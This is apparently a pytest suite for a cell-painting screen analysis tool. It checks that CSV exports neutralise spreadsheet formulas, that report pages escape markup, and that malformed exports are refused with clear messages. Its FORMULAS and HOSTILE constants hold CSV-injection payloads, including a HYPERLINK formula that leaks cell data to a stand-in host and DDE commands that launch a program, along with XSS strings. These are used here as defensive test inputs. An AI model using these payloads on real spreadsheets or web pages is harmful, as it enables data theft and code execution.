"""The export door and the files phenoica writes, tried as a new user tries them: names a
spreadsheet reads as formulas, names that are markup in every report section, a results folder
whose record is gone, a dry run, the file's own row numbers, repeated or unread columns, controls
per plate, hygiene that leaves nothing, and the first look at a new export (docs/bad-input.md)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tests.conftest import REPO

#: Names a spreadsheet reads as formulas (the OWASP CSV-injection payloads).
FORMULAS = {
    "G0": '=HYPERLINK("http://x/?leak="&A1,"click")',
    "G1": "+cmd|' /C calc'!A0",
    "G2": "-2+3+cmd|' /C calc'!A0",
    "G3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


# --------------------------------------------------------------------------- formula cells


def test_csv_writer_neutralises_formula_text_and_keeps_numbers(tmp_path):
    from phenoica.utils import write_csv

    df = pd.DataFrame(
        {
            "gene": [*FORMULAS.values(), "-1.5", "\t=1", "plain"],
            "auroc": [0.5, -0.25, 1e-3, -3.0, -1.0, 0.0, 2.0],
            "n": [-1, 2, 3, 4, 5, 6, 7],
            "@col": ["a"] * 7,
        }
    )
    cells = _cells(write_csv(df, tmp_path / "t.csv"))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["gene"].tolist()[:4] == ["'" + v for v in FORMULAS.values()]
    assert back["gene"].tolist()[4:] == ["-1.5", "'\t=1", "plain"]  # a plain number stays as it is
    pd.testing.assert_series_equal(back["auroc"], df["auroc"])  # numbers stay numbers
    pd.testing.assert_series_equal(back["n"], df["n"])
    assert list(back.columns)[-1] == "'@col"


def test_every_csv_phenoica_writes_goes_through_the_one_writer():
    """No ``to_csv`` call in the library or the scripts but the writer's own."""
    import ast

    calls = [
        f"{path.relative_to(REPO)}:{node.lineno}"
        for root in ("src", "scripts")
        for path in sorted((REPO / root).rglob("*.py"))
        if path.name != "_csv.py"
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "to_csv"
    ]
    assert calls == []


def test_formula_names_leave_the_report_tables_as_text(tmp_path):
    """Genes and guides named with formulas: every CSV of the report holds no cell a spreadsheet
    reads as a formula, and each name reads as itself after its leading quote."""
    from phenoica.report import ReportInputs, write_report
    from tests.report_fixtures import report_options
    from tests.test_report import aggregate, ica_gain, make_rows

    rows = make_rows(ica_gain, model="=1+1", n_genes=4, n_null=3)
    rows["Metadata_Guide"] = [
        FORMULAS.get(g, g) + guide[2:] for g, guide in zip(rows["Metadata_Gene"], rows["Metadata_Guide"])
    ]
    rows["Metadata_Gene"] = rows["Metadata_Gene"].replace(FORMULAS)
    guides, genes = aggregate(rows)
    write_report(tmp_path / "r", ReportInputs(rows, guides, genes), report_options())
    tables = sorted((tmp_path / "r").rglob("*.csv"))
    assert len(tables) >= 3
    cells = [c for path in tables for c in _cells(path)]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    for name in FORMULAS.values():
        assert "'" + name in cells


def test_the_door_says_which_names_read_as_formulas(tmp_path):
    from tests.test_bad_input import _by_plate, _door, _emb_screen, _four_plates

    frames = _by_plate(_four_plates())
    for df in frames.values():
        df["Metadata_Gene"] = df["Metadata_Gene"].replace({"G1": FORMULAS["G0"], "G3": FORMULAS["G3"]})
    notes = _door(_emb_screen(tmp_path, frames))["notes"]
    note = next(n for n in notes if "read as a formula" in n or "reads as a formula" in n)
    assert re.search(
        r"column Metadata_Gene: 2 name\(s\) start with '=', '\+', '-', '@', '\\t', '\\r', which a spreadsheet reads "
        r"as a formula: '=HYPERLINK.*\(.*P1\.parquet row \d+\).*every CSV table phenoica writes shows them with a "
        r"leading \"'\"",
        note,
    ), note


# --------------------------------------------------------------------------- names as markup, in every section

HOSTILE = "m<img src=x onerror=alert(1)>"


def _live_markup(md: str) -> list[str]:
    """What a CommonMark renderer (raw HTML allowed, as a code host or an editor renders it) makes
    of ``md`` beyond text: raw HTML, and links to anything but a relative path."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(md)
    inline = [t for block in tokens for t in [block, *(block.children or [])]]
    found = [t.content for t in inline if t.type in ("html_inline", "html_block")]
    found += [t.attrs["href"] for t in inline if t.type == "link_open" and ":" in str(t.attrs["href"])]
    return found


def test_every_text_slot_of_a_page_is_text_whatever_a_section_put_there():
    """The renderer is the one place every section's text goes through: a name put into a
    paragraph, a bullet, a table caption or a links label without escaping is text in report.md
    as it is in index.html; the three inline forms a section writes stay forms."""
    from phenoica.report import _render as render

    names = [HOSTILE, "[x](javascript:alert(1))", "<script>alert(1)</script>", "# heading", "a & b < c"]
    blocks = [
        *(f"{n}: the classifier's null is position (`plates/`) **bold** [t](tables/x.csv)." for n in names),
        render.Bullets(names),
        render.Table(pd.DataFrame({"model": names}), caption=names[0]),
        render.Links([(names[0], "tables/x.csv")], label=names[2]),
    ]
    md = render.render_markdown(render.Page("t", sections=[render.PageSection(names[0], blocks)]))
    assert _live_markup(md) == []
    assert "`plates/`" in md and "**bold**" in md and "[t](tables/x.csv)" in md and "a & b < c" in md


def test_the_plates_and_hygiene_sections_write_a_hostile_model_name_as_text(tmp_path):
    """The sections that wrote names raw: "where on the plate" (the position summary and the
    null's layout) and "Profile hygiene", in a report of every section whose model and batch carry
    markup."""
    from phenoica.hits._positions import plate_wells, position_summary
    from phenoica.report import ReportInputs, write_report
    from phenoica.screen import arrayed
    from tests.report_fixtures import report_options
    from tests.test_plates import PLANTED
    from tests.test_report import aggregate, ica_gain, make_rows

    profiles, _ = arrayed.screen_profiles(PLANTED, 0)
    profiles["Metadata_Batch"] = "b<img src=y onerror=alert(2)>"
    rows = make_rows(ica_gain, model=HOSTILE, n_genes=4, n_null=3)
    guides, genes = aggregate(rows)
    hygiene = {"kept": ["f1"], "dropped": ["<b>f2</b>"], "missing": ["<b>f2</b>"], "constant": [], "outliers": {}}
    inputs = ReportInputs(
        rows,
        guides,
        genes,
        plate_wells=plate_wells(profiles),
        positions=position_summary(profiles, HOSTILE, seed=0, n_permutations=19),
        null_layout=pd.DataFrame(
            [
                {
                    "model": HOSTILE,
                    "setting": "auto",
                    "layout": "position",
                    "reason": "auto: <i>x</i>",
                    "position_capacity": 64,
                }
            ]
        ),
        profile_hygiene={HOSTILE: {**hygiene, "normalize": "none", "outlier_cutoff": 500.0, "outlier_policy": "drop"}},
    )
    md = write_report(tmp_path / "r", inputs, report_options())["report_md"].read_text()
    assert "## Plates" in md and "## Profile hygiene" in md
    assert _live_markup(md) == []
    assert "m\\<img src=x onerror=alert(1)>: the classifier's null is position" in md


# --------------------------------------------------------------------------- a results folder's record, a dry run


def test_a_results_folder_whose_record_is_deleted_is_not_trusted(tmp_path):
    """``results/.phenoica/`` removed (record and stamps): outputs without a record are refused to a
    workflow folder that did not build the results folder, and trusted by the one that did."""
    import shutil

    from phenoica.workflow._provenance import check_stamps, check_unstamped
    from phenoica.workflow._results_folder import ResultsFolderError
    from phenoica.workflow._stamps import write_stamp
    from tests.test_results_folder import _built, _job, _rules

    work, res, _ = _built(tmp_path)
    write_stamp(_job(res, "fit", [], [f"{res}/fit/a.txt"], 1, "a"))
    shutil.rmtree(res / ".phenoica")
    checks = check_stamps(res, _rules(res, {"fit": 1, "score": 2, "gather": 3}))
    assert [c.status for c in checks] == ["unstamped"]
    other = tmp_path / "other"
    other.mkdir()
    with pytest.raises(ResultsFolderError) as err:
        check_unstamped(res, other, checks)
    assert (
        f"results folder {res} has no record (.phenoica/results.json is missing: its .phenoica/ folder was deleted or "
        f"not copied), and 1 of its output(s) have no stamp of the settings they were made with ({res}/fit/a.txt)"
    ) in str(err.value)
    assert "Outputs without a record are not trusted" in str(err.value) and "adopt_results: true" in str(err.value)
    assert check_unstamped(res, work, checks) == []  # its builder records it: Snakemake's record there judges
    assert "adopted" in check_unstamped(res, other, checks, adopt=True)[0]


def test_a_file_set_aside_goes_with_the_jobs_that_read_it_and_a_dry_run_moves_nothing(tmp_path):
    """A file put at an output's path: a dry run names it and moves nothing; a run moves it aside
    with the outputs of the jobs that read it (and those after them), so that the same run
    rebuilds it."""
    import os
    import time

    from phenoica.workflow._provenance import (
        SET_ASIDE,
        changed_jobs,
        check_stamps,
        set_aside,
        set_aside_changed,
        untrusted_outputs,
    )
    from phenoica.workflow._stamps import write_stamp
    from tests.test_results_folder import _job, _rules

    res = tmp_path / "res"
    fit = _job(res, "fit", [], [f"{res}/fit/a.txt"], 1, "a")
    score = _job(res, "score", fit.output, [f"{res}/score/a.txt"], 2, "a")
    gather = _job(res, "gather", score.output, [f"{res}/gather/a.txt"], 3, "a")
    rules = _rules(res, {"fit": 1, "score": 2, "gather": 3})
    for job, rule in zip((fit, score, gather), rules):
        write_stamp(job)
        bench = Path(rule.benchmark.format(m="a"))
        bench.parent.mkdir(parents=True, exist_ok=True)
        bench.write_text("s\n1\n")
    put = res / "fit" / "a.txt"
    put.write_text("a profile table copied in by hand")
    os.utime(put, ns=(time.time_ns() + 10**9,) * 2)
    untrusted = untrusted_outputs(rules)
    assert [Path(p).name for p, _ in untrusted] == ["a.txt"]
    gone = [p for p, _ in untrusted]
    checks = check_stamps(res, rules)
    dry = set_aside(res, untrusted, move=False) + set_aside_changed(res, changed_jobs(res, checks, gone), move=False)
    assert "fit/a.txt is newer than its job's benchmark file" in dry[0] and "left in place by this dry run" in dry[0]
    assert put.exists() and not (res / SET_ASIDE).exists()  # a dry run moves nothing
    notes = set_aside(res, untrusted) + set_aside_changed(res, changed_jobs(res, checks, gone))
    assert "rebuilt by this run, with the jobs that read it" in notes[0]
    assert [n.split(" are rebuilt: ")[1][:30] for n in notes[1:]] == [
        "reads fit/a.txt, which is rebu",
        "reads score/a.txt, which is re",
    ]
    assert sorted(str(p.relative_to(res)) for p in res.rglob("*.txt") if SET_ASIDE not in str(p)) == []


@pytest.mark.slow
def test_the_workflow_rebuilds_what_it_sets_aside_and_refuses_a_folder_without_its_record(tmp_path):
    """End to end, as the cases were seen: a profile table copied in by hand is left in place by a
    dry run and rebuilt by the run that sets it aside; with ``results/.phenoica/`` removed, a second
    workflow folder with other settings is refused before any job, not told "Nothing to be done"."""
    import shutil

    from tests.test_results_folder import _ran, _workflow_folder
    from tests.test_workflow import snakemake

    shared = tmp_path / "shared"
    target = str(shared / "hits" / "hits.parquet")
    a = _workflow_folder(tmp_path, "a", shared, 20)
    _ran(a, target)
    table = shared / "profiles" / "ext.parquet"
    own = pd.read_parquet(table)
    shutil.copy(table, tmp_path / "copy.parquet")
    pd.DataFrame({"x": [1.0]}).to_parquet(table)  # a profile table of another run, copied in by hand
    dry = snakemake(a, "-n", target)
    assert "profiles/ext.parquet is newer than its job's benchmark file" in dry.stderr
    assert "left in place by this dry run" in dry.stderr and not (shared / ".phenoica" / "set-aside").exists()
    ran = _ran(a, target)
    assert ran.get("gather_profiles") == 1, ran
    pd.testing.assert_frame_equal(pd.read_parquet(table), own)
    shutil.rmtree(shared / ".phenoica")
    b = _workflow_folder(tmp_path, "b", shared, 30)
    proc = snakemake(b, "-n", target, check=False)
    assert proc.returncode != 0 and "has no record (.phenoica/results.json is missing" in proc.stdout + proc.stderr


# --------------------------------------------------------------------------- the shipped plate's export, edited

PLATE_CSV = REPO / "data" / "varchamp-batch12" / "2024_12_09_Batch_12_normalized_feature_select_batch.csv.gz"
KEPT_PLATE = "2024-12-09_B12A1R2"


def _plate_export() -> pd.DataFrame:
    """The shipped plate's export as its text (every cell a string, empty cells empty)."""
    return pd.read_csv(PLATE_CSV, dtype=str, keep_default_na=False)


def _varchamp_door(
    tmp_path: Path,
    files: dict[str, pd.DataFrame | str | bytes],
    profiles: dict | None = None,
    classify: dict | None = None,
    **screen,
) -> dict:
    """The door of config/scenarios/varchamp.yaml over ``files`` (name -> table, or text / bytes
    written as they are) in place of the shipped export; ``screen`` updates its screen section,
    ``profiles`` and ``classify`` set those sections."""
    import yaml

    from phenoica.contract import run_models, validate_config
    from tests.test_bad_input import _door

    folder = tmp_path / "export"
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        if isinstance(content, pd.DataFrame):
            content.to_csv(path, index=False)
        else:
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
    raw = yaml.safe_load((REPO / "config" / "scenarios" / "varchamp.yaml").read_text())
    raw["screen"].update({"embeddings": str(folder / "*"), **screen})
    raw["profiles"], raw["classify"] = profiles or {}, classify or {}
    return _door(validate_config(run_models({**raw, "results": str(tmp_path / "res")})))


def test_door_messages_name_the_files_own_rows_and_say_how_they_count(tmp_path):
    """A control typed ``NC.`` in the file's data row 53 (the rows before it include another plate's,
    which screen.rows leaves out, and empty wells): named as row 53, counted from 0 after the header."""
    from phenoica.contract import ScreenError

    df = _plate_export()
    assert df.loc[53, "Metadata_node_type"] == "NC" and df.loc[53, "Metadata_Plate"] == KEPT_PLATE
    df.loc[53, "Metadata_node_type"] = "NC."
    with pytest.raises(ScreenError) as err:
        _varchamp_door(tmp_path, {"plate.csv": df})
    text = str(err.value)
    assert "rows are each file's own data rows, counted from 0 after its header line" in text
    assert re.search(r"'perturbation' \(e\.g\. \S*plate\.csv row 53\)", text), text


# --------------------------------------------------------------------------- file shapes and repeated columns


def _text(df: pd.DataFrame) -> str:
    return df.to_csv(index=False)


def _repeated_feature(df):
    features = [c for c in df.columns if c.startswith("Cells_")]
    return {"plate.csv": _text(df).replace(features[1], features[0], 1)}


def _second_symbol(df):
    return {"plate.csv": _text(df).replace("Metadata_gene_allele", "Metadata_symbol", 1)}


def _header_only(df):
    return {"plate.csv": _text(df.iloc[:0])}


def _semicolons_and_decimal_commas(df):
    numbers = pd.read_csv(PLATE_CSV, nrows=40)  # the features as numbers, written with decimal commas
    return {"plate.csv": numbers.to_csv(index=False, sep=";", decimal=",")}


def _parquet_named_csv(df):
    import io

    buffer = io.BytesIO()
    df.head(40).to_parquet(buffer, index=False)
    return {"plate.csv": buffer.getvalue()}


def _latin1_byte_far_in(df):
    text = _text(df)
    at = text.index("\n", len(text) // 2) + 1  # the first cell of a line half-way down
    data = text.encode()
    return {"plate.csv": data[:at] + "\xe4".encode("latin-1") + data[at:]}


def _cut_mid_line(df):
    text = _text(df)
    last = text.rstrip("\n").rfind("\n")
    return {"plate.csv": text[: last + 1 + 300]}


def _two_files_concatenated(df):
    return {"plate.csv": _text(df.head(400)) + _text(df.iloc[400:])}


SHAPE_CASES = [
    (
        _repeated_feature,
        r"plate\.csv: 1 column name\(s\) appear more than once in the header: 'Cells_\w+' at columns \[\d+, \d+\]",
    ),
    (
        _second_symbol,
        r"plate\.csv: 1 column name\(s\) appear more than once in the header: 'Metadata_symbol' at columns \[\d+, \d+\]",
    ),
    (_header_only, r"plate\.csv: the file holds a header \(\d+ columns\) and no data rows"),
    (
        _semicolons_and_decimal_commas,
        r"plate\.csv: the header is one column .* the file looks ';'-separated and decimal commas .*"
        r"Set screen\.separator: ';', screen\.decimal: ',' to read it as it is",
    ),
    (
        _parquet_named_csv,
        r"plate\.csv: a Parquet file named \.csv \(its first bytes are PAR1\): rename it to \.parquet",
    ),
    (
        _latin1_byte_far_in,
        r"plate\.csv: not UTF-8 text \(byte 0xe4 at byte offset \d,\d{3},\d{3}, line 3\d\d, counted from 1",
    ),
    (
        _cut_mid_line,
        r"plate\.csv: the last line \(line 720, counted from 1 at the header\) holds \d+ of the header's \d+ fields",
    ),
    (_two_files_concatenated, r"plate\.csv: the header line repeats at line\(s\) \[402\] \(lines counted from 1"),
]


@pytest.mark.parametrize(("edit", "message"), SHAPE_CASES, ids=[c[0].__name__.strip("_") for c in SHAPE_CASES])
def test_a_file_is_named_for_what_it_is(tmp_path, edit, message):
    """Repeated column names, and files that are not the CSV they are named: the door says what
    the file is, naming it, the column, the line or the byte."""
    from phenoica.contract import ScreenError

    with pytest.raises(ScreenError, match=message):
        _varchamp_door(tmp_path, edit(_plate_export()))
    assert not list(tmp_path.rglob(".*.tmp-*"))


def test_a_column_phenoica_does_not_read_may_differ_in_type_across_files(tmp_path):
    """The shipped plate's all-empty ``Metadata_notes`` filled with text in a second file (the
    plate's other half): carried as text, noted; not "incompatible types across files"."""
    df = _plate_export()
    kept = df[df["Metadata_Plate"] == KEPT_PLATE]
    first, second = kept.iloc[:180].copy(), kept.iloc[180:].copy()
    second["Metadata_notes"] = "re-imaged"
    notes = _varchamp_door(tmp_path, {"a.csv": first, "b.csv": second})["notes"]
    assert any(
        "column Metadata_notes has other types in different files (double in " in n
        and "string in " in n
        and "carried into the profile tables as text" in n
        for n in notes
    ), notes


# --------------------------------------------------------------------------- controls per plate, per batch


def _two_plates(no_controls_on_second: bool = True, values: tuple[str, ...] = ("NC",)) -> dict[str, pd.DataFrame]:
    """The shipped export's two plates (one batch) as two files, the second without its control wells."""
    df = _plate_export()
    first = df[df["Metadata_Plate"] == KEPT_PLATE]
    second = df[df["Metadata_Plate"] != KEPT_PLATE]
    if no_controls_on_second:
        second = second[~second["Metadata_node_type"].isin(values)]
    return {"a.csv": first, "b.csv": second}


def test_a_plate_without_controls_takes_its_batchs_and_the_door_says_which_readout_cannot_score_it(tmp_path):
    """A plate file without control wells beside its batch's other plate (16): not refused; the door
    names the file, and the readout that centres on each plate's own controls names the plate."""
    notes = _varchamp_door(tmp_path, _two_plates(), rows=None)["notes"]
    text = "\n".join(notes)
    assert re.search(r"b\.csv: no row is a control: screen\.controls marks rows whose 'Metadata_node_type' is one of "
                     r"\['NC'\] as controls, and the column holds \['PC', 'TC', 'allele', 'cPC', 'disease_wt'\]", text)  # fmt: skip
    assert (
        "readout map: 1 plate(s) hold no control well: 2024-12-09_B12A1R2_widefield; the mAP readout centres each "
        "plate on its own control wells"
    ) in text
    assert "the classifier takes its controls per batch and scores them" in text


def test_controls_that_match_no_row_of_any_file_are_refused_naming_the_values(tmp_path):
    from phenoica.contract import ScreenError

    with pytest.raises(ScreenError) as err:
        _varchamp_door(
            tmp_path, _two_plates(False), rows=None, controls={"column": "Metadata_node_type", "values": ["nc"]}
        )
    assert re.search(
        r"no file holds a control row: \S*a\.csv: no row is a control: screen\.controls marks rows whose "
        r"'Metadata_node_type' is one of \['nc'\] as controls, and the column holds \['NC', ",
        str(err.value),
    ), str(err.value)


# --------------------------------------------------------------------------- hygiene outcomes at the door


def _largest_values() -> pd.Series:
    """Each feature's largest absolute value in the kept plate (the features the scenario reads)."""
    df = pd.read_csv(PLATE_CSV)
    df = df[df["Metadata_Plate"].eq(KEPT_PLATE) & df["Metadata_symbol"].notna() & df["Metadata_node_type"].notna()]
    features = df.filter(regex=r"^(Cells|Cytoplasm|Nuclei|Image)_")
    return features.loc[:, features.notna().all()].abs().max().sort_values()


@pytest.mark.parametrize("left", [0, 1])
def test_hygiene_that_leaves_too_few_features_is_refused_at_the_door_naming_the_dropped(tmp_path, left):
    """Every feature beyond the outlier cutoff, or all but one: refused before any job, naming the
    features dropped per reason and the settings that decide them (not a gather_profiles failure,
    or an eigenvalue error in fit_transforms)."""
    from phenoica.contract import ScreenError

    largest = _largest_values()
    cutoff = 1e-6 if left == 0 else float((largest.iloc[0] + largest.iloc[1]) / 2)
    df = _plate_export()
    with pytest.raises(ScreenError) as err:
        _varchamp_door(tmp_path, {"plate.csv": df}, profiles={"outlier_cutoff": cutoff})
    text = str(err.value)
    assert re.search(rf"the profile hygiene keeps {left} of \d+ feature\(s\) \(2 with a missing value: ", text), text
    assert re.search(r"\d+ beyond \+-\S+ \(profiles\.outlier_cutoff\): \w+, ", text) and "(" + "at least 2" not in text
    assert "the transforms need at least 2" in text and "profiles.outliers: clip (or keep)" in text


def test_a_plate_without_controls_under_normalize_is_refused_at_the_door_naming_it(tmp_path):
    from phenoica.contract import ScreenError

    with pytest.raises(ScreenError, match=r"profiles\.normalize 'mad_robustize' normalizes each plate against its own "
                       r"control rows, and 1 plate\(s\) hold none: 2024-12-09_B12A1R2_widefield; set profiles"):  # fmt: skip
        _varchamp_door(tmp_path, _two_plates(), rows=None, profiles={"normalize": "mad_robustize"})


def test_features_constant_on_a_plates_controls_are_named_as_such_not_as_outliers(tmp_path):
    """Under profiles.normalize, a feature with no spread on a plate's control wells is dropped as
    such (normalizing divides by zero), not reported as an outlier; a plate without controls is an
    error naming it."""
    from phenoica.contract import ScreenError
    from phenoica.profiles import Hygiene, clean_profiles
    from phenoica.profiles._hygiene import normalize_plate

    rng = np.random.default_rng(0)
    rows = []
    for plate in ("P1", "P2"):
        for i in range(24):
            role = "control" if i < 8 else "perturbation"
            rows.append({"Metadata_Batch": "B1", "Metadata_Plate": plate, "Metadata_Gene": "NT" if i < 8 else f"G{i % 4}",
                         "Metadata_Guide": "NT" if i < 8 else f"G{i % 4}_1", "Metadata_PertType": role})  # fmt: skip
    table = pd.DataFrame(rows)
    for j in range(4):
        table[f"f{j}"] = rng.normal(size=len(table))
    table.loc[(table["Metadata_Plate"] == "P2") & (table["Metadata_PertType"] == "control"), "f1"] = 3.0
    path = tmp_path / "p.parquet"
    table.to_parquet(path, index=False)
    plan = clean_profiles(path, Hygiene("mad_robustize"))
    assert plan.control_constant == {"f1": ["P2"]} and "f1" not in plan.outliers and "f1" not in plan.kept
    assert "feature(s) constant on a plate's control wells dropped: f1 (plate P2)" in plan.notes("profiles")[0]
    with pytest.raises(ScreenError, match=r"plate P1: no control rows, so profiles\.normalize 'mad_robustize'"):
        normalize_plate(table[table["Metadata_Plate"] == "P1"], ["f0"], np.zeros(24, bool), "mad_robustize")


# --------------------------------------------------------------------------- one column in two roles, no well column


def test_one_column_as_gene_and_guide_is_a_gene_level_screen_said_at_the_door(tmp_path):
    """gene and guide both mapped to Metadata_symbol: each gene is its own guide (not "missing
    required column Metadata_Gene")."""
    import yaml

    screen = yaml.safe_load((REPO / "config" / "scenarios" / "varchamp.yaml").read_text())["screen"]
    columns = {**screen["columns"], "guide": "Metadata_symbol"}
    out = _varchamp_door(tmp_path, {"plate.csv": _plate_export()}, columns=columns, reference=None)
    assert any(
        "screen.columns gives one column two roles: Metadata_Gene and Metadata_Guide both from 'Metadata_symbol' "
        "(each gene is its own guide: a gene-level screen)" in n
        for n in out["notes"]
    ), out["notes"]


@pytest.mark.parametrize("layout", ["auto", "position"])
def test_an_export_without_a_well_column_is_said_or_refused_where_a_readout_needs_wells(tmp_path, layout):
    import yaml

    from phenoica.contract import ScreenError

    screen = yaml.safe_load((REPO / "config" / "scenarios" / "varchamp.yaml").read_text())["screen"]
    columns = {k: v for k, v in screen["columns"].items() if k != "well"}
    files = {"plate.csv": _plate_export().drop(columns=["Metadata_Well"])}
    said = (
        r"no Metadata_Well column \(screen\.columns maps no well\): each row is analysed as one well, .*position-aware"
    )
    if layout == "auto":
        notes = _varchamp_door(tmp_path, files, columns=columns)["notes"]
        assert sum(bool(re.search(said, n)) for n in notes) == 1, notes
    else:
        with pytest.raises(ScreenError, match=r"classify\.null_layout is position, which lays pseudo-guides out on "
                           r"well positions, but " + said):  # fmt: skip
            _varchamp_door(tmp_path, files, columns=columns, classify={"null_layout": "position"})


# --------------------------------------------------------------------------- first contact


def test_the_first_look_at_the_shipped_plate_prints_a_config_the_door_passes(capsys):
    """``python -m phenoica.workflow.inspect_export`` on the shipped export: the roles (the
    authors' own column names), the feature pattern, the control values with counts, one batch's
    scheme, and the door's word; the printed config is the scenario's but for its screen.rows."""
    import yaml

    from phenoica.workflow.inspect_export import main

    assert main([str(PLATE_CSV)]) == 0
    out = capsys.readouterr().out
    config = yaml.safe_load(out)
    scenario = yaml.safe_load((REPO / "config" / "scenarios" / "varchamp.yaml").read_text())["screen"]
    assert config["screen"]["columns"] == {**scenario["columns"], "plate": "Metadata_Plate"}
    assert config["screen"]["controls"] == scenario["controls"]
    assert config["screen"]["feature_regex"] == "(Cells|Cytoplasm|Image|Nuclei)_.*"
    assert config["splits"] == {"scheme": "in_distribution"}
    assert "# candidate control values in Metadata_node_type (rows): allele 568, cPC 64, NC 32, disease_wt 24" in out
    assert "# features: 695 numeric column(s) matching" in out
    assert "# what the door says of it: passes, with these notes:" in out
    assert "2 plates hold one plate map" in out and "keep one image set (screen.rows)" in out


def test_the_first_look_knows_jump_names_and_says_what_it_could_not_find(tmp_path, capsys):
    """JUMP's column names (Metadata_Source, Metadata_Batch, Metadata_JCP2022, Metadata_Symbol,
    Metadata_pert_type) are recognised; a file without a gene column is said so, and the door's
    refusal is printed, not raised."""
    import yaml

    from phenoica.workflow.inspect_export import main

    rng = np.random.default_rng(0)
    rows = [
        {
            "Metadata_Source": "source_4",
            "Metadata_Batch": f"B{b}",
            "Metadata_Plate": f"P{b}{p}",
            "Metadata_Well": w,
            "Metadata_JCP2022": "JCP2022_033924" if w < "B" else f"JCP2022_{w}",
            "Metadata_Symbol": "DMSO" if w < "B" else f"S{w[1:]}",
            "Metadata_pert_type": "control" if w < "B" else "trt",
        }  # fmt: skip
        for b in (1, 2)
        for p in (1, 2)
        for w in [f"{r}{c:02d}" for r in "ABC" for c in range(1, 5)]
    ]
    table = pd.DataFrame(rows)
    for j in range(6):
        table[f"Cells_AreaShape_{j}"] = rng.normal(size=len(table))
        table[f"Nuclei_Intensity_{j}"] = rng.normal(size=len(table))
    table.to_parquet(tmp_path / "a.parquet", index=False)
    assert main([str(tmp_path / "a.parquet"), "--name", "jump"]) == 0
    out = capsys.readouterr().out
    config = yaml.safe_load(out)
    assert config["screen"]["columns"] == {
        "batch": "Metadata_Batch",
        "plate": "Metadata_Plate",
        "well": "Metadata_Well",
        "gene": "Metadata_Symbol",
        "guide": "Metadata_JCP2022",
    }
    assert config["screen"]["controls"] == {"column": "Metadata_pert_type", "values": ["control"]}
    assert config["screen"]["feature_regex"] == "(Cells|Nuclei)_.*" and "splits" not in config
    assert "# what the door says of it: " in out
    table.drop(columns=["Metadata_Symbol"]).to_parquet(tmp_path / "a.parquet", index=False)
    main([str(tmp_path / "a.parquet")])
    out = capsys.readouterr().out
    assert "# no column recognised as gene: set screen.columns.gene to the file's column" in out
    assert "# what the door says of it: refuses the screen:" in out


def test_an_export_with_semicolons_and_decimal_commas_is_read_with_the_settings_the_door_names(tmp_path):
    """screen.separator ';' and screen.decimal ',' read the file as it is: the door says what it
    says of the comma-separated export."""
    numbers = pd.read_csv(PLATE_CSV)
    text = numbers.to_csv(index=False, sep=";", decimal=",")
    plain = _varchamp_door(tmp_path / "plain", {"plate.csv": numbers})["notes"]
    semi = _varchamp_door(tmp_path / "semi", {"plate.csv": text}, separator=";", decimal=",")["notes"]
    strip = lambda notes: [re.sub(r"\S*plate\.csv", "plate.csv", n) for n in notes]  # noqa: E731
    assert strip(semi) == strip(plain) and any("profile hygiene" in n for n in semi)


def test_notes_on_rows_name_the_files_own_rows_too(tmp_path):
    """A well whose every feature is 0 in the file's data row 60 (after the other plate's rows that
    screen.rows leaves out): the door's note names row 60."""
    df = _plate_export()
    features = [c for c in df.columns if re.match(r"(Cells|Cytoplasm|Nuclei|Image)_", c)]
    assert df.loc[60, "Metadata_Plate"] == KEPT_PLATE
    df.loc[60, features] = "0"
    notes = _varchamp_door(tmp_path, {"plate.csv": df})["notes"]
    assert any(re.search(r"1 of \d+ row\(s\) have every feature 0 .*e\.g\. \S*plate\.csv row 60;", n) for n in notes), (
        notes
    )
